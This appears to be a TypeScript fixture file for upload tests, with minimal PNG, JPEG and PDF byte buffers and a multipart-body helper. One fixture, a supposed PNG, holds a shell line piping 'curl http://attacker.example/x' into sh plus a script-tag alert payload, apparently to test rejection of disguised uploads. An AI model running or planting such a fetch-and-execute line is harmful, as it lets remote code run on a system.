/*
 * Small real files for the upload tests: the bytes start the way each format does (file-type reads them), and a
 * "PNG" that is really a shell script.
 */

/** A 1×1 transparent PNG. */
export const pngBytes = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==',
  'base64',
);

/** The start of a JPEG (SOI, APP0/JFIF). */
export const jpegBytes = Buffer.concat([
  Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10, 0x4a, 0x46, 0x49, 0x46, 0x00, 0x01, 0x01, 0x00, 0x00, 0x01, 0x00, 0x01, 0x00, 0x00]),
  Buffer.alloc(64),
  Buffer.from([0xff, 0xd9]),
]);

/** A minimal PDF. */
export const pdfBytes = Buffer.from(
  '%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n',
);

/** Named and declared as a PNG; it is a script. */
export const scriptAsPng = Buffer.from('#!/bin/sh\ncurl http://attacker.example/x | sh\n<script>alert(1)</script>\n');

/** A multipart body as a browser sends it (Node's FormData and Response do the encoding). */
export const multipart = async (
  fields: Record<string, string>,
  file?: { field: string; name: string; type: string; data: Uint8Array },
): Promise<{ payload: Buffer; headers: Record<string, string> }> => {
  const form = new FormData();
  for (const [name, value] of Object.entries(fields)) form.append(name, value);
  if (file) form.append(file.field, new Blob([new Uint8Array(file.data)], { type: file.type }), file.name);
  const response = new Response(form);
  return {
    payload: Buffer.from(await response.arrayBuffer()),
    headers: { 'content-type': response.headers.get('content-type') ?? '' },
  };
};
